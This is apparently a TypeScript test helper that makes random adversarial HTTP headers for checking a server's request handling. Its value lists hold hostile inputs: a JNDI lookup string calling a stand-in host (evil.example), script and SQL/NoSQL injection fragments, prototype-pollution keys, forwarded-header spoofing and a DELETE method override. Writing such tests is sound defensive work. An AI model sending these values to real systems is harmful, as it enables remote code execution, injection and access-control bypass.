import type { SeededRandom } from '../../test/model/seeded-random.js'

/** Headers that a caller may try for their effect: none may have one that it should not have. */
export function headerTricks(random: SeededRandom): Array<[string, string]> {
  if (random.chance(0.55)) return []
  return random.pick<Array<[string, string]>>([
    [
      [
        'X-Forwarded-For',
        random.pick([
          '127.0.0.1',
          '::1',
          '10.0.0.1, 8.8.8.8',
          'unknown',
          '1.2.3.4:99999',
          "'",
          '0'.repeat(4_000),
          '[::1]:80',
          '8.8.8.8%eth0',
        ]),
      ],
    ],
    [
      ['X-Forwarded-For', '1.1.1.1'],
      ['X-Forwarded-For', '2.2.2.2'],
    ],
    [['Forwarded', 'for=127.0.0.1;proto=https;host=evil.example']],
    [['X-Forwarded-Host', 'evil.example']],
    [['X-Forwarded-Proto', 'javascript']],
    [['X-Original-URL', '/api/v1/me']],
    [['X-HTTP-Method-Override', 'DELETE']],
    [['X-Request-Id', random.pick(['abc-1', '', 'a'.repeat(65), 'a b', '"><script>', '\u00e9', '{"$ne":1}'])]],
    [
      [
        'Idempotency-Key',
        random.pick(['k1', '', ' ', 'a'.repeat(255), 'a'.repeat(256), '\u00e9', 'a\tb', '__proto__', "'; --", `k${random.whole(1, 1e9)}`]),
      ],
    ],
    [
      ['Idempotency-Key', `a${random.whole(1, 1e9)}`],
      ['Idempotency-Key', 'b'],
    ],
    [
      [
        'Cookie',
        random.pick(['sid=x', 'sid=; sid=y', '__Host-sid=ut_0', '=', ';;;=;', 'a'.repeat(8_000), 'sid=%00', 'sid="ut_1"; Path=/']),
      ],
    ],
    [
      [
        'Accept',
        random.pick(['text/html', '*/*;q=0', 'application/json;q=0', '', 'a', '*/*/*', 'text/event-stream', `${'a/b,'.repeat(500)}c/d`]),
      ],
    ],
    [['Accept-Language', random.pick(['ar', 'fr;q=abc', '*', ',,,', 'x'.repeat(3_000), 'en;q=-1,fr;q=9'])]],
    [['Accept-Encoding', random.pick(['gzip, br', '*;q=0', 'x'])]],
    [['Origin', random.pick(['https://evil.example', 'null', '', 'http://127.0.0.1', 'x'])]],
    [['Sec-Fetch-Site', random.pick(['cross-site', 'same-origin', 'x'])]],
    [['Range', 'bytes=0-1']],
    [['If-None-Match', '*']],
    [['Content-Encoding', random.pick(['gzip', 'br', 'identity', 'x'])]],
    [['Expect', random.pick(['100-continue', 'x', ''])]],
    [['TE', 'trailers']],
    [['Via', '1.1 evil']],
    [['__proto__', 'x']],
    [['constructor', 'x']],
    [['User-Agent', random.pick(['', '${jndi:ldap://evil.example/a}', 'x'.repeat(5_000), '\u00ff\u00fe'])]],
    Array.from({ length: random.pick([50, 99]) }, (_none, index): [string, string] => [`X-${index}`, 'y']),
  ])
}
